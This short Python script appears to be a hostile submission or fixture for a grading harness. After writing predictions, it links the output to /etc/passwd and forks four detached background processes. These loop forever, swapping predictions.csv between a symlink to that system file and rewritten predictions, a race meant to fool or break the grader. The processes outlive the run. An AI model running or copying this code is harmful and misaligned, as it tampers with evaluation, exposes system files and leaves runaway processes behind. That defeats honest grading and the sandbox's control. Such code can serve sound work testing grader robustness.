"""Leaves behind who swaps the predictions for a link as fast as it can."""

import os

from attempt import predict

predict()
predict(path="/output/own")
os.symlink("/etc/passwd", "/output/link")
for _ in range(4):
    if os.fork() == 0:
        os.setsid()
        os.closerange(0, 3)
        while True:
            for name in ("own", "link"):
                try:
                    os.symlink(os.readlink("/output/link") if name == "link" else "own", "/output/.next")
                    os.replace("/output/.next", "/output/predictions.csv")
                    predict(path="/output/.whole")
                    os.replace("/output/.whole", "/output/predictions.csv")
                except OSError:
                    pass
print("done")
